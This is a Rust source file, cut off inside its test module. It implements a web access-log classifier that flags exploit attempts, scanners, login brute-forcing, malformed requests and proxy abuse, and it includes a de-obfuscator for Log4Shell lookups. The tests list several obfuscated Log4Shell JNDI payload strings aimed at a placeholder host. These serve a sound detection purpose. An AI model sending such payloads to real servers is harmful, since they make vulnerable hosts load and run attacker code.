//! The access-log line classifier: what one parsed line shows on its own.
//!
//! [`Classifier`] is built once (it compiles the signature tables) and shared
//! by every worker; [`Classifier::classify`] takes a record and a reusable
//! scratch buffer and returns a small `Copy` [`LineClass`]. The per-line path
//! allocates nothing (the scratch buffer grows to the longest field once) and
//! reads each field a bounded number of times: to look for an upper-case byte
//! (and `%`/`+` in the target and Referer), to copy it lowercased (and decoded)
//! when needed, once through its automaton, and once with `memchr` for the
//! Log4Shell opener `${`. Fields shorter than the shortest pattern are not read
//! at all. [`Classifier::classify_cached`] gives the same results through a
//! [`FieldCache`], so that a value seen before (User-Agents and popular paths
//! repeat on most lines) costs a hash and a compare.
//!
//! The one automaton per field (target, User-Agent, Referer) holds every
//! unanchored pattern of every table that applies to that field, so a field is
//! searched once however many classes look at it. At each byte where some
//! pattern starts, the longest pattern starting there counts (patterns are
//! added longest first to a leftmost-first automaton).
//!
//! What a line alone cannot show (floods, bursts, sweeps, direct-origin) is
//! left to the aggregation stage; see [`super::ClassInfo`].

use aho_corasick::{AhoCorasick, Input, MatchKind};

use super::cache::{FieldCache, Probe, Probes};
use super::signatures::{Confirm, Field, Signature, BRUTEFORCE, EXPLOIT, MALFORMED, SCANNER};
use super::{error_event, ClassId, ClassSet};
use crate::record::{Client, Record};

/// What became of a proxy request, by its status.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum ProxyOutcome {
    /// 2xx: the server relayed it (an open proxy).
    Tunnelled,
    /// 502, 503 or 504: the server tried to reach the target and failed.
    Attempted,
    /// Any other status, or none logged.
    Refused,
}

impl ProxyOutcome {
    pub fn from_status(status: Option<u16>) -> ProxyOutcome {
        match status {
            Some(200..=299) => ProxyOutcome::Tunnelled,
            Some(502..=504) => ProxyOutcome::Attempted,
            _ => ProxyOutcome::Refused,
        }
    }

    pub const fn label(self) -> &'static str {
        match self {
            ProxyOutcome::Tunnelled => "tunnelled",
            ProxyOutcome::Attempted => "attempted",
            ProxyOutcome::Refused => "refused",
        }
    }
}

/// What one line shows on its own. Small and `Copy`; byte ranges refer to the
/// record it was computed from.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct LineClass {
    classes: ClassSet,
    proxy: Option<ProxyOutcome>,
    status_2xx: bool,
    /// Bit i: `BRUTEFORCE[i]` (only on a POST).
    bruteforce: u8,
    /// Bit i: `MALFORMED[i]`.
    malformed: u8,
    proxy_port: Option<u16>,
    /// Bit i: `SCANNER[i]`.
    scanners: u32,
    /// `host[:port]` of the proxy target in `rec.target`, and where the host ends.
    proxy_at: (u32, u32),
    proxy_host_end: u32,
    /// Bit i: `EXPLOIT[i]`.
    exploits: u64,
}

impl LineClass {
    /// The classes this line shows. Never flood or direct-origin (behavioural);
    /// bruteforce and gateway-errors mean "candidate" (see their definitions).
    pub fn classes(&self) -> ClassSet {
        self.classes
    }

    pub fn has(&self, c: ClassId) -> bool {
        self.classes.contains(c)
    }

    /// Set for CONNECT and absolute-URI requests.
    pub fn proxy(&self) -> Option<ProxyOutcome> {
        self.proxy
    }

    /// The proxy target as written, without userinfo: the whole target of a
    /// CONNECT (`www.example.org:443`), the authority of an absolute URI
    /// (`www.example.org` or `www.example.org:8080`). Empty when not a proxy
    /// request. `rec` must be the record this was computed from.
    pub fn proxy_target<'a>(&self, rec: &Record<'a>) -> &'a [u8] {
        let (a, b) = (self.proxy_at.0 as usize, self.proxy_at.1 as usize);
        rec.target.get(a..b).unwrap_or_default()
    }

    /// The host part of [`Self::proxy_target`] (an IPv6 literal keeps its brackets).
    pub fn proxy_host<'a>(&self, rec: &Record<'a>) -> &'a [u8] {
        let (a, b) = (self.proxy_at.0 as usize, self.proxy_host_end as usize);
        rec.target.get(a..b).unwrap_or_default()
    }

    /// The port written in the proxy target, else the scheme's (80, 443);
    /// `None` for a CONNECT without a valid port.
    pub fn proxy_port(&self) -> Option<u16> {
        self.proxy_port
    }

    /// The first exploit signature hit: the lowest index in [`EXPLOIT`].
    pub fn exploit(&self) -> Option<&'static Signature> {
        self.exploit_index().map(|i| &EXPLOIT[i])
    }

    pub fn exploit_index(&self) -> Option<usize> {
        (self.exploits != 0).then(|| self.exploits.trailing_zeros() as usize)
    }

    /// How many distinct exploit signatures the line hits.
    pub fn exploit_count(&self) -> u32 {
        self.exploits.count_ones()
    }

    /// Bit i set: `EXPLOIT[i]` hit.
    pub fn exploit_mask(&self) -> u64 {
        self.exploits
    }

    /// An exploit signature hit and the server answered 2xx.
    pub fn exploit_succeeded(&self) -> bool {
        self.exploits != 0 && self.status_2xx
    }

    /// The first scanner signature hit.
    pub fn scanner(&self) -> Option<&'static Signature> {
        (self.scanners != 0).then(|| &SCANNER[self.scanners.trailing_zeros() as usize])
    }

    /// Every signature hit, table by table, each with its class.
    pub fn signatures(&self) -> impl Iterator<Item = (ClassId, &'static Signature)> {
        fn bits(
            mask: u64,
            class: ClassId,
            t: &'static [Signature],
        ) -> impl Iterator<Item = (ClassId, &'static Signature)> {
            // The set bits only, lowest first.
            let mut m = mask;
            std::iter::from_fn(move || {
                let i = (m != 0).then(|| m.trailing_zeros() as usize)?;
                m &= m - 1;
                t.get(i).map(|s| (class, s))
            })
        }
        bits(self.exploits, ClassId::Exploit, EXPLOIT)
            .chain(bits(self.scanners as u64, ClassId::Scanner, SCANNER))
            .chain(bits(
                self.bruteforce as u64,
                ClassId::Bruteforce,
                BRUTEFORCE,
            ))
            .chain(bits(
                self.malformed as u64,
                ClassId::MalformedRequest,
                MALFORMED,
            ))
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Table {
    Exploit,
    Scanner,
    Bruteforce,
}

#[derive(Clone, Copy, Debug)]
struct Hit {
    table: Table,
    sig: u8,
}

/// One field's automaton and what each of its patterns stands for.
#[derive(Debug)]
struct FieldMatcher {
    ac: AhoCorasick,
    hits: Vec<Hit>,
    min_len: usize,
    /// Openers of the signatures confirmed by reading (Log4Shell's `${`),
    /// with the signature's index. Kept out of the automaton: a two-byte
    /// pattern would cost its SIMD prefilter most of its speed.
    lookups: Vec<(u8, &'static [u8])>,
}

impl FieldMatcher {
    fn build(field: Field) -> FieldMatcher {
        let tables = [
            (Table::Exploit, EXPLOIT),
            (Table::Scanner, SCANNER),
            (Table::Bruteforce, BRUTEFORCE),
        ];
        let mut pats: Vec<(&'static [u8], Hit)> = Vec::new();
        let mut lookups = Vec::new();
        for (table, sigs) in tables {
            for (i, s) in sigs.iter().enumerate() {
                if s.anchored || !s.field.covers(field) {
                    continue;
                }
                let hit = Hit {
                    table,
                    sig: i as u8,
                };
                match s.confirm {
                    Confirm::None => pats.extend(s.patterns.iter().map(|p| (*p, hit))),
                    Confirm::Log4jLookup => {
                        assert_eq!(table, Table::Exploit);
                        lookups.extend(s.patterns.iter().map(|p| (hit.sig, *p)));
                    }
                }
            }
        }
        // Stable: table order is kept among patterns of equal length.
        pats.sort_by_key(|(p, _)| std::cmp::Reverse(p.len()));
        let ac = AhoCorasick::builder()
            .match_kind(MatchKind::LeftmostFirst)
            .build(pats.iter().map(|(p, _)| p))
            .expect("the signature tables compile");
        FieldMatcher {
            ac,
            min_len: pats
                .iter()
                .map(|(p, _)| p.len())
                .chain(lookups.iter().map(|(_, p)| p.len()))
                .min()
                .unwrap_or(usize::MAX),
            hits: pats.into_iter().map(|(_, h)| h).collect(),
            lookups,
        }
    }

    /// The hits in `hay`, whose first `raw_len` bytes are the field as
    /// written (lowercased) and the rest, when `decoded`, its decoded copy.
    /// Login endpoints count only in the path of the field as written.
    ///
    /// After a match the search resumes one byte after its start, not at its
    /// end, so a match does not hide another that starts inside it
    /// (`../../etc/passwd` is traversal and an LFI probe). Patterns are short,
    /// so this stays linear in the field.
    #[inline]
    fn scan(&self, hay: &[u8], raw_len: usize, decoded: bool) -> FieldHits {
        let mut h = FieldHits::default();
        let mut at = 0;
        while let Some(m) = self.ac.find(Input::new(hay).range(at..)) {
            at = m.start() + 1;
            let hit = self.hits[m.pattern().as_usize()];
            match hit.table {
                Table::Exploit => h.exploits |= 1 << hit.sig,
                Table::Scanner => h.scanners |= 1 << hit.sig,
                Table::Bruteforce => {
                    let raw = &hay[..raw_len];
                    if m.end() <= memchr::memchr(b'?', raw).unwrap_or(raw_len) {
                        h.endpoints |= 1 << hit.sig;
                    }
                }
            }
        }
        // One reading from the first opener settles every later one. An
        // encoded opener (`%24%7b`) can only be in a field that was decoded.
        for (sig, opener) in &self.lookups {
            if h.exploits >> sig & 1 == 0 && (decoded || opener[0] != b'%') {
                if let Some(p) = find_opener(hay, opener) {
                    if log4j_jndi(&hay[p..]) {
                        h.exploits |= 1 << sig;
                    }
                }
            }
        }
        h
    }
}

/// The first `opener` in `hay`. Openers start with a byte that ordinary
/// fields rarely hold (`$`), so a memchr and a compare beat a memmem finder.
#[inline]
fn find_opener(hay: &[u8], opener: &[u8]) -> Option<usize> {
    let (&first, rest) = opener.split_first()?;
    memchr::memchr_iter(first, hay).find(|&p| hay[p + 1..].starts_with(rest))
}

/// What one field contributed: exploit and scanner signatures, and the login
/// endpoints in its path (which count only on a POST).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(super) struct FieldHits {
    pub(super) exploits: u64,
    pub(super) scanners: u32,
    pub(super) endpoints: u8,
}

/// The three searched fields.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Which {
    Target,
    UserAgent,
    Referer,
}

/// The compiled signature tables. Build once; `Send + Sync`, so one can be
/// shared by every worker thread.
#[derive(Debug)]
pub struct Classifier {
    target: FieldMatcher,
    user_agent: FieldMatcher,
    referer: FieldMatcher,
    /// The bytes a handshake pattern can start with (either case): most
    /// request lines start with none of them and skip the comparisons.
    handshake_first: [bool; 256],
}

impl Default for Classifier {
    fn default() -> Self {
        Classifier::new()
    }
}

const _: () = {
    const fn send_sync<T: Send + Sync>() {}
    send_sync::<Classifier>();
    send_sync::<LineClass>();
};

impl Classifier {
    pub fn new() -> Classifier {
        Classifier {
            target: FieldMatcher::build(Field::Target),
            user_agent: FieldMatcher::build(Field::UserAgent),
            referer: FieldMatcher::build(Field::Referer),
            handshake_first: {
                let mut t = [false; 256];
                for p in MALFORMED.iter().flat_map(|s| s.patterns) {
                    t[p[0].to_ascii_lowercase() as usize] = true;
                    t[p[0].to_ascii_uppercase() as usize] = true;
                }
                t
            },
        }
    }

    /// Classifies one record. `scratch` is any reusable buffer (one per
    /// worker); its contents on return are unspecified.
    ///
    /// An error-log record (no request, a message) gets `upstream-timeout`
    /// when [`error_event`] finds one, and nothing else.
    pub fn classify(&self, rec: &Record, scratch: &mut Vec<u8>) -> LineClass {
        self.classify_with(rec, &mut Search(scratch))
    }

    /// As [`Classifier::classify`], remembering what recent field values
    /// gave: the same result, at the cost of a hash and a compare for a
    /// User-Agent, path or Referer seen before. What the scan core should use.
    pub fn classify_cached(&self, rec: &Record, cache: &mut FieldCache) -> LineClass {
        let probes = self.probe(rec, cache);
        self.classify_probed(rec, cache, &probes)
    }

    /// Hashes the fields of `rec` that [`Classifier::classify_probed`] will
    /// look up and asks the processor to fetch their cache slots: call it as
    /// soon as a line is parsed, and classify the line a little later.
    #[inline]
    pub fn probe(&self, rec: &Record, cache: &FieldCache) -> Probes {
        let [t, u, r] = searched_fields(rec);
        [
            self.probe_field(t, cache),
            self.probe_field(u, cache),
            self.probe_field(r, cache),
        ]
    }

    #[inline(always)]
    fn probe_field(&self, (w, f): (Which, &[u8]), cache: &FieldCache) -> Probe {
        if self.could_match(w, f) {
            cache.probe(w, f)
        } else {
            Probe::default()
        }
    }

    /// Whether `field` is long enough to hold one of its patterns: a shorter
    /// one is neither probed nor looked up.
    #[inline(always)]
    fn could_match(&self, w: Which, field: &[u8]) -> bool {
        field.len() >= self.matcher(w).min_len
    }

    /// [`Classifier::classify_cached`] with the probes [`Classifier::probe`]
    /// made for `rec`.
    pub fn classify_probed(
        &self,
        rec: &Record,
        cache: &mut FieldCache,
        probes: &Probes,
    ) -> LineClass {
        self.classify_with(rec, &mut Cached { cache, probes })
    }

    /// A cache miss: search the field, and remember what it gave.
    #[inline(never)]
    fn search_and_remember(
        &self,
        w: Which,
        field: &[u8],
        probe: Probe,
        cache: &mut FieldCache,
    ) -> FieldHits {
        cache.fill(w, field, probe, |field, scratch| {
            self.field_hits(w, field, scratch)
        })
    }

    #[inline(always)]
    fn classify_with(&self, rec: &Record, look: &mut impl Lookup) -> LineClass {
        let mut lc = LineClass::default();
        if rec.method.is_empty()
            && rec.request.is_empty()
            && !(rec.message.is_empty() && rec.level.is_empty())
        {
            if error_event(rec).is_some() {
                lc.classes.insert(ClassId::UpstreamTimeout);
            }
            return lc;
        }

        lc.status_2xx = matches!(rec.status, Some(200..=299));
        match rec.status {
            Some(502..=504) => lc.classes.insert(ClassId::GatewayErrors),
            Some(400 | 408) => lc.classes.insert(ClassId::MalformedRequest),
            Some(401) => lc.classes.insert(ClassId::Bruteforce),
            _ => {}
        }
        self.malformed(rec, &mut lc);
        proxy(rec, &mut lc);

        let mut all = FieldHits::default();
        let [t, u, r] = searched_fields(rec);
        self.add_hits(t, look, &mut all);
        self.add_hits(u, look, &mut all);
        self.add_hits(r, look, &mut all);
        lc.exploits = all.exploits;
        lc.scanners = all.scanners;
        if rec.method == b"POST" {
            lc.bruteforce = all.endpoints;
        }
        if lc.exploits != 0 {
            lc.classes.insert(ClassId::Exploit);
        }
        if lc.scanners != 0 {
            lc.classes.insert(ClassId::Scanner);
        }
        if lc.bruteforce != 0 {
            lc.classes.insert(ClassId::Bruteforce);
        }

        if lc.exploits == 0 && lc.scanners == 0 && self.is_dummy(rec) {
            return LineClass {
                classes: ClassSet::of(&[ClassId::Dummy]),
                status_2xx: lc.status_2xx,
                ..LineClass::default()
            };
        }
        lc
    }

    /// Adds what `field` holds to `all`, unless it is too short to hold a
    /// pattern.
    #[inline(always)]
    fn add_hits(&self, (w, field): (Which, &[u8]), look: &mut impl Lookup, all: &mut FieldHits) {
        if self.could_match(w, field) {
            let h = look.hits(self, w, field);
            all.exploits |= h.exploits;
            all.scanners |= h.scanners;
            all.endpoints |= h.endpoints;
        }
    }

    fn matcher(&self, w: Which) -> &FieldMatcher {
        match w {
            Which::Target => &self.target,
            Which::UserAgent => &self.user_agent,
            Which::Referer => &self.referer,
        }
    }

    /// Searches one field. The target and the Referer are also searched
    /// percent-decoded; the User-Agent is not URL-encoded.
    fn field_hits(&self, w: Which, field: &[u8], scratch: &mut Vec<u8>) -> FieldHits {
        let (hay, decoded) = prepare(field, w != Which::UserAgent, scratch);
        self.matcher(w).scan(hay, field.len(), decoded)
    }

    fn malformed(&self, rec: &Record, lc: &mut LineClass) {
        let line = if rec.request.is_empty() {
            rec.method
        } else {
            rec.request
        };
        let maybe = line
            .first()
            .is_some_and(|&b| self.handshake_first[b as usize]);
        for (i, s) in MALFORMED.iter().enumerate().filter(|_| maybe) {
            if s.patterns.iter().any(|p| {
                line.get(..p.len())
                    .is_some_and(|l| l.eq_ignore_ascii_case(p))
            }) {
                lc.malformed |= 1 << i;
            }
        }
        let m = rec.method;
        let bad_method = !m.is_empty()
            && m != b"GET"
            && (m == b"-"
                || m.len() > 20
                || !m
                    .iter()
                    .all(|&c| c.is_ascii_uppercase() || c == b'-' || c == b'_'));
        if lc.malformed != 0 || bad_method || rec.request == b"-" {
            lc.classes.insert(ClassId::MalformedRequest);
        }
    }

    fn is_dummy(&self, rec: &Record) -> bool {
        let options_star = rec.method == b"OPTIONS" && rec.target == b"*";
        if options_star && matches!(rec.client, Client::Ip(ip) if ip.is_loopback()) {
            return true;
        }
        let get_root = rec.method == b"GET" && rec.target == b"/";
        (options_star || get_root) && rec.user_agent.ends_with(DUMMY_UA)
    }
}

/// How the classifier gets what a field holds: by searching it, or from a
/// worker's [`FieldCache`]. A trait, not a closure, so that the cache's hit
/// path is always inlined into the classifier.
trait Lookup {
    fn hits(&mut self, c: &Classifier, w: Which, field: &[u8]) -> FieldHits;
}

struct Search<'s>(&'s mut Vec<u8>);

impl Lookup for Search<'_> {
    #[inline(always)]
    fn hits(&mut self, c: &Classifier, w: Which, field: &[u8]) -> FieldHits {
        c.field_hits(w, field, self.0)
    }
}

struct Cached<'s> {
    cache: &'s mut FieldCache,
    probes: &'s Probes,
}

impl Lookup for Cached<'_> {
    #[inline(always)]
    fn hits(&mut self, c: &Classifier, w: Which, field: &[u8]) -> FieldHits {
        let probe = self.probes[w as usize];
        match self.cache.get(w, field, probe) {
            Some(hits) => hits,
            None => c.search_and_remember(w, field, probe, self.cache),
        }
    }
}

/// How Apache's User-Agent for its own dummy connections ends.
const DUMMY_UA: &[u8] = b"(internal dummy connection)";

/// The fields searched, in `Which` order. A method-only request line
/// (`"\x16\x03..."`, `"${jndi:...}"`) has no target: the line itself is
/// searched.
#[inline]
fn searched_fields<'a>(rec: &Record<'a>) -> [(Which, &'a [u8]); 3] {
    let target = if rec.target.is_empty() {
        rec.request
    } else {
        rec.target
    };
    [
        (Which::Target, target),
        (Which::UserAgent, rec.user_agent),
        (Which::Referer, rec.referer),
    ]
}

/// The bytes to search for `field`, and whether they include a decoded copy:
/// the field itself when it is already lowercase and needs no decoding; else,
/// in `scratch`, the lowercased field, and when `decode` and it holds `%` or
/// `+`, a newline and the lowercased field percent-decoded once. No pattern
/// holds a newline, so no match spans the two copies, and the first
/// `field.len()` bytes are always the field as written, lowercased.
#[inline]
fn prepare<'a>(field: &'a [u8], decode: bool, scratch: &'a mut Vec<u8>) -> (&'a [u8], bool) {
    let decode = decode && memchr::memchr2(b'%', b'+', field).is_some();
    if !decode && !has_upper(field) {
        return (field, false);
    }
    scratch.clear();
    scratch.extend_from_slice(field);
    lower_in_place(scratch);
    if decode {
        scratch.push(b'\n');
        percent_decode_lower(field, scratch);
    }
    (scratch, decode)
}

/// The ASCII upper-case letters among the eight bytes of `w`, as `0x20` in
/// their byte (SWAR: eight bytes per step; bytes >= 0x80 are left alone).
#[inline(always)]
fn upper_bits(w: u64) -> u64 {
    const LOW7: u64 = 0x7f7f_7f7f_7f7f_7f7f;
    const HIGH: u64 = 0x8080_8080_8080_8080;
    let h = w & LOW7;
    let at_least_a = h.wrapping_add(0x3f3f_3f3f_3f3f_3f3f);
    let past_z = h.wrapping_add(0x2525_2525_2525_2525);
    (at_least_a & !past_z & !w & HIGH) >> 2
}

fn has_upper(s: &[u8]) -> bool {
    let mut chunks = s.chunks_exact(8);
    chunks.any(|c| upper_bits(u64::from_le_bytes(c.try_into().unwrap_or([0; 8]))) != 0)
        || chunks.remainder().iter().any(u8::is_ascii_uppercase)
}

fn lower_in_place(s: &mut [u8]) {
    let mut chunks = s.chunks_exact_mut(8);
    for c in &mut chunks {
        let w = u64::from_le_bytes((&*c).try_into().unwrap_or([0; 8]));
        c.copy_from_slice(&(w | upper_bits(w)).to_le_bytes());
    }
    chunks.into_remainder().make_ascii_lowercase();
}

/// Appends `src` percent-decoded once and lowercased: `%xx` → the byte (an
/// encoded tab, newline, CR, VT or FF → space, as SQL reads them, which also
/// keeps the newline that separates the two copies unique), `+` → space, a
/// `%` without two hex digits after it stays. Linear; the output is never
/// longer than the input.
fn percent_decode_lower(src: &[u8], out: &mut Vec<u8>) {
    let mut i = 0;
    while i < src.len() {
        let b = src[i];
        if b == b'%' {
            if let (Some(h), Some(l)) = (src.get(i + 1).and_then(hex), src.get(i + 2).and_then(hex))
            {
                let d = h << 4 | l;
                out.push(match d {
                    b'\t' | b'\n' | 0x0b | 0x0c | b'\r' => b' ',
                    _ => d.to_ascii_lowercase(),
                });
                i += 3;
                continue;
            }
        }
        out.push(if b == b'+' {
            b' '
        } else {
            b.to_ascii_lowercase()
        });
        i += 1;
    }
}

fn hex(c: &u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

/// What a Log4Shell lookup must resolve to.
const JNDI: &[u8; 5] = b"jndi:";

/// Whether some log4j lookup in `s` (lowercased; from the first candidate
/// `${` or `%24%7b` on) resolves to `jndi:` once log4j's own obfuscation
/// syntax is undone: `${lower:x}` and `${upper:x}` give `x`,
/// `${anything:-x}` gives its default `x` (all after the first `:-`),
/// `${date:'x'}` gives `x`, a lookup
/// that starts `jndi:` is one whatever follows, nesting is followed, `}` is
/// dropped, and `%xx` is read as the byte.
///
/// One linear pass, however many `${` the field holds: a lookup opened at
/// some point is a small machine whose only state is how much of `jndi:` it
/// has spelled so far, so all the lookups in progress fit in one bit set
/// (bit k: some lookup has spelled `JNDI[..k]`); a lookup that spells anything
/// else drops out.
fn log4j_jndi(s: &[u8]) -> bool {
    const DONE: u8 = 1 << 5;
    let mut live = 0u8;
    let mut i = 0;
    while i < s.len() {
        if live == 0 {
            // Nothing in progress: skip to the next possible opening.
            match memchr::memchr2(b'$', b'%', &s[i..]) {
                Some(p) => i += p,
                None => return false,
            }
        }
        if let Some(w) = opening_at(s, i) {
            i += w;
            live |= 1;
            let mut head = Head::default();
            while i < s.len() && opening_at(s, i).is_none() {
                let (c, w) = char_at(s, i);
                if c == b'}' {
                    break;
                }
                head.push(c);
                i += w;
            }
            let (v, total) = head.value();
            live = spell(live, v, total);
        } else {
            let (c, w) = char_at(s, i);
            i += w;
            if c != b'}' {
                live = spell(live, &[c], 1);
            }
        }
        if live & DONE != 0 {
            return true;
        }
    }
    false
}

/// The byte at `i` with `%xx` read as the (lowercased) byte, and its width.
#[inline]
fn char_at(s: &[u8], i: usize) -> (u8, usize) {
    let b = s[i];
    if b == b'%' {
        if let (Some(h), Some(l)) = (s.get(i + 1).and_then(hex), s.get(i + 2).and_then(hex)) {
            return ((h << 4 | l).to_ascii_lowercase(), 3);
        }
    }
    (b, 1)
}

/// The width of a lookup opening `${` (either byte possibly `%`-encoded) at `i`.
#[inline]
fn opening_at(s: &[u8], i: usize) -> Option<usize> {
    let (a, w1) = char_at(s, i);
    if a != b'$' || i + w1 >= s.len() {
        return None;
    }
    let (b, w2) = char_at(s, i + w1);
    (b == b'{').then_some(w1 + w2)
}

/// Advances every lookup in progress by a value whose first bytes are `v`
/// (up to 5) and whose length is `total`.
fn spell(live: u8, v: &[u8], total: usize) -> u8 {
    if total == 0 {
        return live;
    }
    let mut next = 0;
    for k in 0..JNDI.len() {
        if live >> k & 1 == 0 {
            continue;
        }
        let need = &JNDI[k..];
        if total >= need.len() {
            if v[..need.len()] == *need {
                next |= 1 << JNDI.len();
            }
        } else if need.starts_with(&v[..total]) {
            next |= 1 << (k + total);
        }
    }
    next
}

/// The text of one lookup up to its `}` or the next nested opening: enough
/// of it kept to tell its value's first five bytes.
#[derive(Default)]
struct Head {
    /// First bytes of the head, and how many there were.
    start: [u8; 16],
    len: usize,
    /// First bytes after the first `:-`, and how many there were.
    default: [u8; 5],
    default_len: usize,
    has_default: bool,
    last: u8,
}

impl Head {
    fn push(&mut self, c: u8) {
        if let Some(slot) = self.start.get_mut(self.len) {
            *slot = c;
        }
        self.len += 1;
        if self.last == b':' && c == b'-' && !self.has_default {
            // log4j takes the name up to the first `:-`, the default after it.
            self.has_default = true;
            self.default_len = 0;
        } else {
            if let Some(slot) = self.default.get_mut(self.default_len) {
                *slot = c;
            }
            self.default_len += 1;
        }
        self.last = c;
    }

    /// The first bytes of what the lookup resolves to, and its length.
    fn value(&self) -> (&[u8], usize) {
        let kept = &self.start[..self.len.min(self.start.len())];
        let (v, total) = if kept.starts_with(JNDI) {
            (kept, self.len)
        } else if self.has_default {
            (&self.default[..], self.default_len)
        } else if kept.starts_with(b"lower:") || kept.starts_with(b"upper:") {
            (&kept[6..], self.len - 6)
        } else if kept.starts_with(b"date:'") {
            (
                &kept[6..],
                (self.len - 6).saturating_sub(usize::from(self.last == b'\'')),
            )
        } else {
            (kept, self.len)
        };
        (&v[..total.min(v.len()).min(JNDI.len())], total)
    }
}

/// Marks CONNECT and absolute-URI requests, with their target.
fn proxy(rec: &Record, lc: &mut LineClass) {
    let t = rec.target;
    let (start, end, default_port) = if rec.method == b"CONNECT" {
        (0, t.len(), None)
    } else if !matches!(t.first(), Some(b'h' | b'H')) {
        // Most targets are paths: not a URI of any scheme.
        return;
    } else {
        let scheme = if has_prefix_ci(t, b"http://") {
            7
        } else if has_prefix_ci(t, b"https://") {
            8
        } else {
            return;
        };
        let rest = &t[scheme..];
        let end = rest
            .iter()
            .position(|&c| matches!(c, b'/' | b'?' | b'#'))
            .unwrap_or(rest.len());
        (
            scheme,
            scheme + end,
            Some(if scheme == 7 { 80 } else { 443 }),
        )
    };
    lc.classes.insert(ClassId::Proxy);
    lc.proxy = Some(ProxyOutcome::from_status(rec.status));
    // Drop userinfo (`user:pass@host`).
    let start = start + memchr::memrchr(b'@', &t[start..end]).map_or(0, |p| p + 1);
    let (host_len, port) = split_port(&t[start..end]);
    lc.proxy_port = port.or(default_port);
    if let (Ok(a), Ok(h), Ok(b)) = (
        u32::try_from(start),
        u32::try_from(start + host_len),
        u32::try_from(end),
    ) {
        lc.proxy_at = (a, b);
        lc.proxy_host_end = h;
    }
}

/// `host:port`, `[v6]:port` or a bare host: the host's length and the port.
fn split_port(hp: &[u8]) -> (usize, Option<u16>) {
    let after_host = if hp.first() == Some(&b'[') {
        match memchr::memchr(b']', hp) {
            Some(c) => c + 1,
            None => return (hp.len(), None),
        }
    } else {
        match memchr::memrchr(b':', hp) {
            Some(c) => c,
            None => return (hp.len(), None),
        }
    };
    let rest = &hp[after_host..];
    match rest.strip_prefix(b":") {
        Some(p) if (1..=5).contains(&p.len()) && p.iter().all(u8::is_ascii_digit) => {
            let v = p.iter().fold(0u32, |v, c| v * 10 + (c - b'0') as u32);
            (after_host, u16::try_from(v).ok())
        }
        // `host:` with an empty port: the scheme's default.
        Some([]) => (after_host, None),
        _ if rest.is_empty() => (after_host, None),
        // A bare IPv6 address or junk after the colon: all host.
        _ => (hp.len(), None),
    }
}

fn has_prefix_ci(s: &[u8], p: &[u8]) -> bool {
    s.len() >= p.len() && s[..p.len()].eq_ignore_ascii_case(p)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::format::preset;

    fn run(preset_name: &str, line: &str) -> (LineClass, String, String) {
        let f = preset(preset_name).unwrap();
        let mut rec = Record::default();
        f.parse(line.as_bytes(), &mut rec)
            .unwrap_or_else(|_| panic!("parses: {line}"));
        let lc = Classifier::new().classify(&rec, &mut Vec::new());
        let t = String::from_utf8_lossy(lc.proxy_target(&rec)).into_owned();
        let h = String::from_utf8_lossy(lc.proxy_host(&rec)).into_owned();
        (lc, t, h)
    }

    fn combined(req: &str, status: u16, ua: &str) -> String {
        format!(
            "203.0.113.7 - - [24/Dec/2020:18:58:33 +0900] \"{req}\" {status} 247 \"-\" \"{ua}\""
        )
    }

    #[test]
    fn proxy_targets_and_outcomes() {
        let cases = [
            (
                "CONNECT www.acenursing.org:443 HTTP/1.1",
                504,
                Some(ProxyOutcome::Attempted),
                "www.acenursing.org:443",
                "www.acenursing.org",
                Some(443),
            ),
            (
                "CONNECT www.acenursing.org:443 HTTP/1.1",
                200,
                Some(ProxyOutcome::Tunnelled),
                "www.acenursing.org:443",
                "www.acenursing.org",
                Some(443),
            ),
            (
                "CONNECT [2001:db8::1]:25 HTTP/1.1",
                405,
                Some(ProxyOutcome::Refused),
                "[2001:db8::1]:25",
                "[2001:db8::1]",
                Some(25),
            ),
            (
                "CONNECT foo.com HTTP/1.1",
                400,
                Some(ProxyOutcome::Refused),
                "foo.com",
                "foo.com",
                None,
            ),
            (
                "CONNECT foo.com:99999 HTTP/1.1",
                400,
                Some(ProxyOutcome::Refused),
                "foo.com:99999",
                "foo.com",
                None,
            ),
            (
                "GET http://www.yahoo.com/ HTTP/1.1",
                200,
                Some(ProxyOutcome::Tunnelled),
                "www.yahoo.com",
                "www.yahoo.com",
                Some(80),
            ),
            (
                "GET HTTPS://u:p@Example.org:8443/x?y HTTP/1.1",
                503,
                Some(ProxyOutcome::Attempted),
                "Example.org:8443",
                "Example.org",
                Some(8443),
            ),
            (
                "GET https://example.org?x HTTP/1.1",
                301,
                Some(ProxyOutcome::Refused),
                "example.org",
                "example.org",
                Some(443),
            ),
            ("GET /http://x/ HTTP/1.1", 200, None, "", "", None),
            ("GET /r?u=http://x/ HTTP/1.1", 200, None, "", "", None),
            ("connect foo.com:443 HTTP/1.1", 400, None, "", "", None),
        ];
        for (req, status, outcome, target, host, port) in cases {
            let (lc, t, h) = run("combined", &combined(req, status, "-"));
            assert_eq!(lc.proxy(), outcome, "{req}");
            assert_eq!(lc.has(ClassId::Proxy), outcome.is_some(), "{req}");
            assert_eq!(
                (t.as_str(), h.as_str(), lc.proxy_port()),
                (target, host, port),
                "{req}"
            );
        }
    }

    #[test]
    fn log4j_deobfuscation() {
        let yes = [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:ldap://x}",
            "${${upper:j}${upper:n}${lower:d}i:rmi://x}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://x}",
            "${${env:nan:-j}ndi${env:nan:-:}ldap://x}",
            "${j${k8s:k5:-nd}i${sd:k5:-:}ldap://x}",
            "${${lower:${lower:jndi}}:ldap://x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "%24%7bjndi:ldap://x%7d",
            "%24%7b%24%7blower:j%7dndi%3aldap://x%7d",
            "${a}${b:-c}${jndi:dns://x}",
            "${${x:-j}ndi:x}",
            "${::-x}${${::-j}ndi:x}",
            "${jndi:ldap://x.example/a:-b}",
            "${${what:ever:and:more:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}${lower::}x}",
        ];
        for s in yes {
            assert!(log4j_jndi(s.as_bytes()), "{s}");
        }
        let no = [
